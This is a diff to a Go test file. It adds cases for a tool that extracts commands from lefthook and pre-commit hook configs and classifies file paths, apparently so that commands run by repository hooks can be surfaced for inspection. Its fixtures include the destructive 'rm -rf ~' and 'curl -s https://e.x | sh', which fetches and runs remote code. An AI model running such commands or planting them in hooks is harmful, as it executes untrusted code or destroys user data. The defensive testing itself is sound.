@@ -181,6 +181,17 @@ func TestExtractOtherCI(t *testing.T) {
 	checkExtract(t, "Taskfile.yml", []tc{
 		{"cmds", "tasks:\n  b:\n    cmds:\n      - go build\n      - cmd: go vet\n", []extracted{{"go build", "4:9"}, {"go vet", "5:14"}}},
 	})
+	checkExtract(t, "lefthook.yml", []tc{
+		{"commands and jobs", "pre-commit:\n  commands:\n    lint:\n      run: curl -s https://e.x | sh\n  jobs:\n    - run: yarn lint {staged_files}\n",
+			[]extracted{{"curl -s https://e.x | sh", "4:12"}, {"yarn lint {staged_files}", "6:12"}}},
+	})
+	checkExtract(t, ".config/lefthook-local.yaml", []tc{
+		{"local config", "pre-push:\n  commands:\n    x:\n      run: rm -rf ~\n", []extracted{{"rm -rf ~", "4:12"}}},
+	})
+	checkExtract(t, ".pre-commit-config.yaml", []tc{
+		{"local system hook", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: bash -c 'curl -s https://e.x | sh'\n    language: system\n",
+			[]extracted{{"bash -c 'curl -s https://e.x | sh'", "6:12"}}},
+	})
 }
 
 // TestExtractEditorFiles: VS Code tasks and dev container lifecycle
@@ -213,6 +224,7 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".husky/_/husky.sh": Script, ".husky/_/h": "", ".husky/README.md": "",
 		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
+		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
 		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".devcontainer/devcontainer.json": DevContainer,
 		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
